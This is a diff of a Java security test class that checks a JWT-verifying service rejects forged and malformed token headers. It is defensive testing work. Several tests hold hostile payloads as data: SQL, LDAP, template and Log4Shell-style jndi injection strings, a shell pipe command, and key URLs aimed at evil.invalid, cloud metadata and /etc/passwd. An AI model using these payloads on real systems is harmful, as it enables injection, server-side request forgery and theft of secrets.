@@ -5,8 +5,6 @@ import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 
 import city.certfree.crypto.KeyPurpose;
-import city.certfree.crypto.Signer;
-import city.certfree.crypto.json.Base64Url;
 import city.certfree.fixture.Caller;
 import city.certfree.fixture.UseRequest;
 import city.certfree.kernel.DepartmentCode;
@@ -45,8 +43,11 @@ class HeaderAttacksTest extends TokenAttacks {
     @Test
     void j01_algNone() {
         for (var none : List.of("none", "None", "noNE", "NONE ", "")) {
-            everywhere("forged", token -> token.header(ES256, "\"" + none + "\"").signed());
-            everywhere("malformed", token -> token.header(ES256, "\"" + none + "\"").input() + ".");
+            everywhere(
+                    "forged", token -> token.header(ES256, "\"" + none + "\"").signed());
+            everywhere(
+                    "malformed",
+                    token -> token.header(ES256, "\"" + none + "\"").input() + ".");
         }
     }
 
@@ -76,12 +77,20 @@ class HeaderAttacksTest extends TokenAttacks {
 
     @Test
     void j05_algMissingOrOfAnotherKind() {
-        for (var member : List.of("\"kty\":\"EC\"", "\"alg\":256", "\"alg\":[\"ES256\"]", "\"alg\":null",
-                "\"alg\":{}", "\"alg\":true", ALG + "," + ALG)) {
+        for (var member : List.of(
+                "\"kty\":\"EC\"",
+                "\"alg\":256",
+                "\"alg\":[\"ES256\"]",
+                "\"alg\":null",
+                "\"alg\":{}",
+                "\"alg\":true",
+                ALG + "," + ALG)) {
             everywhere("malformed", token -> token.header(ALG, member).signed());
         }
-        credential(token -> token.header("\"kid\":\"" + token.signer().kid() + "\"", "\"kid\":7").signed());
-        shown("REJECTED malformed", t -> t.header("\"kid\":\"" + t.signer().kid() + "\",", "").signed());
+        credential(token -> token.header("\"kid\":\"" + token.signer().kid() + "\"", "\"kid\":7")
+                .signed());
+        shown("REJECTED malformed", t -> t.header("\"kid\":\"" + t.signer().kid() + "\",", "")
+                .signed());
     }
 
     @Test
@@ -107,8 +116,13 @@ class HeaderAttacksTest extends TokenAttacks {
 
     @Test
     void j08_keyNameThatIsACommand() {
-        for (var kid : List.of("' UNION SELECT 1 --", "' OR '1'='1", "*)(uid=*", "${jndi:ldap://evil.invalid/a}",
-                "| touch /tmp/j08", "{{7*7}}")) {
+        for (var kid : List.of(
+                "' UNION SELECT 1 --",
+                "' OR '1'='1",
+                "*)(uid=*",
+                "${jndi:ldap://evil.invalid/a}",
+                "| touch /tmp/j08",
+                "{{7*7}}")) {
             everywhere("forged", token -> withKid(token, kid));
         }
     }
@@ -117,10 +131,15 @@ class HeaderAttacksTest extends TokenAttacks {
     @Test
     void j09_addressOfAKey() throws IOException {
         try (var trap = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
-            for (var url : List.of("http://127.0.0.1:" + trap.getLocalPort() + "/jwks.json",
-                    "https://evil.invalid/jwks.json", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd")) {
-                everywhere("malformed", token -> token.adding("\"jku\":\"" + url + "\"").signed());
-                everywhere("malformed", token -> token.adding("\"x5u\":\"" + url + "\"").signed());
+            for (var url : List.of(
+                    "http://127.0.0.1:" + trap.getLocalPort() + "/jwks.json",
+                    "https://evil.invalid/jwks.json",
+                    "http://169.254.169.254/latest/meta-data/",
+                    "file:///etc/passwd")) {
+                everywhere("malformed", token -> token.adding("\"jku\":\"" + url + "\"")
+                        .signed());
+                everywhere("malformed", token -> token.adding("\"x5u\":\"" + url + "\"")
+                        .signed());
                 everywhere("forged", token -> withKid(token, url));
             }
             trap.setSoTimeout(1);
@@ -143,22 +162,36 @@ class HeaderAttacksTest extends TokenAttacks {
         var own = ClientKey.next();
         var jwk = "\"jwk\":" + own.key().toPublicJWK();
         everywhere("malformed", token -> token.adding(jwk).signed());
-        everywhere("malformed", token -> token.header(token.signer().kid(), own.kid()).adding(jwk).by(own).signed());
+        everywhere("malformed", token -> token.header(token.signer().kid(), own.kid())
+                .adding(jwk)
+                .by(own)
+                .signed());
     }
 
     @Test
     void j12_critical() {
-        for (var member : List.of("\"crit\":[\"exp\"],\"exp\":1", "\"crit\":[]", "\"crit\":[\"alg\"]",
-                "\"crit\":[\"b64\"],\"b64\":false", "\"b64\":false", "\"crit\":\"exp\"")) {
+        for (var member : List.of(
+                "\"crit\":[\"exp\"],\"exp\":1",
+                "\"crit\":[]",
+                "\"crit\":[\"alg\"]",
+                "\"crit\":[\"b64\"],\"b64\":false",
+                "\"b64\":false",
+                "\"crit\":\"exp\"")) {
             everywhere("malformed", token -> token.adding(member).signed());
         }
-        shown("REJECTED malformed", token -> token.claims("{", "{\"crit\":[\"exp\"],").signed());
+        shown("REJECTED malformed", token -> token.claims("{", "{\"crit\":[\"exp\"],")
+                .signed());
     }
 
     @Test
     void j13_duplicateHeaderNames() {
-        for (var member : List.of("\"alg\":\"none\"", "\"\\u0061lg\":\"none\"", "\"ALG\":\"none\"", "\"Alg\":\"ES256\"",
-                "\"kid\":\"x\"", "\"typ\":\"JWT\"")) {
+        for (var member : List.of(
+                "\"alg\":\"none\"",
+                "\"\\u0061lg\":\"none\"",
+                "\"ALG\":\"none\"",
+                "\"Alg\":\"ES256\"",
+                "\"kid\":\"x\"",
+                "\"typ\":\"JWT\"")) {
             everywhere("malformed", token -> token.adding(member).signed());
         }
     }
@@ -166,7 +199,8 @@ class HeaderAttacksTest extends TokenAttacks {
     @Test
     void j17_compressed() {
         for (var zip : List.of("DEF", "GZ", "none", "")) {
-            everywhere("malformed", token -> token.adding("\"zip\":\"" + zip + "\"").signed());
+            everywhere("malformed", token -> token.adding("\"zip\":\"" + zip + "\"")
+                    .signed());
         }
     }
 
@@ -174,9 +208,12 @@ class HeaderAttacksTest extends TokenAttacks {
     void j18_encrypted() {
         for (var alg : List.of("PBES2-HS256+A128KW", "RSA1_5", "dir", "ECDH-ES")) {
             everywhere("forged", token -> token.header("ES256", alg).signed());
-            everywhere("malformed", token -> token.header("ES256", alg).adding("\"enc\":\"A128GCM\"").signed());
+            everywhere("malformed", token -> token.header("ES256", alg)
+                    .adding("\"enc\":\"A128GCM\"")
+                    .signed());
         }
-        for (var member : List.of("\"p2c\":2147483647", "\"p2s\":\"AA\"", "\"enc\":\"A128GCM\"", "\"epk\":{\"kty\":\"EC\"}")) {
+        for (var member :
+                List.of("\"p2c\":2147483647", "\"p2s\":\"AA\"", "\"enc\":\"A128GCM\"", "\"epk\":{\"kty\":\"EC\"}")) {
             everywhere("malformed", token -> token.adding(member).signed());
         }
         everywhere("malformed", token -> token.input() + ".AAAA.AAAA.AAAA");
@@ -195,12 +232,19 @@ class HeaderAttacksTest extends TokenAttacks {
 
     @Test
     void j25_typeMissingOrInAnotherForm() {
-        for (var typ : List.of("\"jwt\"", "\"application/show+jwt\"", "\"application/at+jwt\"", "\"SHOW+JWT\"",
-                "\"AT+JWT\"", "\" show+jwt\"", "7")) {
+        for (var typ : List.of(
+                "\"jwt\"",
+                "\"application/show+jwt\"",
+                "\"application/at+jwt\"",
+                "\"SHOW+JWT\"",
+                "\"AT+JWT\"",
+                "\" show+jwt\"",
+                "7")) {
             everywhere("malformed", token -> withTyp(token, typ));
         }
         shown("REJECTED malformed", token -> withTyp(token, "\"JWT\""));
-        shown("REJECTED malformed", token -> token.header(",\"typ\":\"show+jwt\"", "").signed());
+        shown("REJECTED malformed", token -> token.header(",\"typ\":\"show+jwt\"", "")
+                .signed());
         assertEquals(
                 "401 not-signed-in",
                 Caller.bearer(http, access().header(",\"typ\":\"at+jwt\"", "").signed())
@@ -209,11 +253,13 @@ class HeaderAttacksTest extends TokenAttacks {
     }
 
     private static String withKid(Draft token, String kid) {
-        return token.header(token.header().replaceFirst(".*\"kid\":\"([^\"]*)\".*", "$1"), kid).signed();
+        return token.header(token.header().replaceFirst(".*\"kid\":\"([^\"]*)\".*", "$1"), kid)
+                .signed();
     }
 
     private static String withTyp(Draft token, String typ) {
-        return token.header(token.header().replaceFirst(".*(\"typ\":\"[^\"]*\").*", "$1"), "\"typ\":" + typ).signed();
+        return token.header(token.header().replaceFirst(".*(\"typ\":\"[^\"]*\").*", "$1"), "\"typ\":" + typ)
+                .signed();
     }
 
     /** The service's published key, and the client's registered one, in every form that could be taken for a secret. */
@@ -229,9 +275,13 @@ class HeaderAttacksTest extends TokenAttacks {
         try {
             var key = ECKey.parse(members);
             byte[] der = key.toECPublicKey().getEncoded();
-            var pem = "-----BEGIN PUBLIC KEY-----\n" + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der)
-                    + "\n-----END PUBLIC KEY-----\n";
-            return List.of(der, pem.getBytes(US_ASCII), key.toJSONString().getBytes(UTF_8), key.getX().decode());
+            var pem = "-----BEGIN PUBLIC KEY-----\n"
+                    + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der) + "\n-----END PUBLIC KEY-----\n";
+            return List.of(
+                    der,
+                    pem.getBytes(US_ASCII),
+                    key.toJSONString().getBytes(UTF_8),
+                    key.getX().decode());
         } catch (ParseException | JOSEException e) {
             throw new IllegalStateException(e);
         }
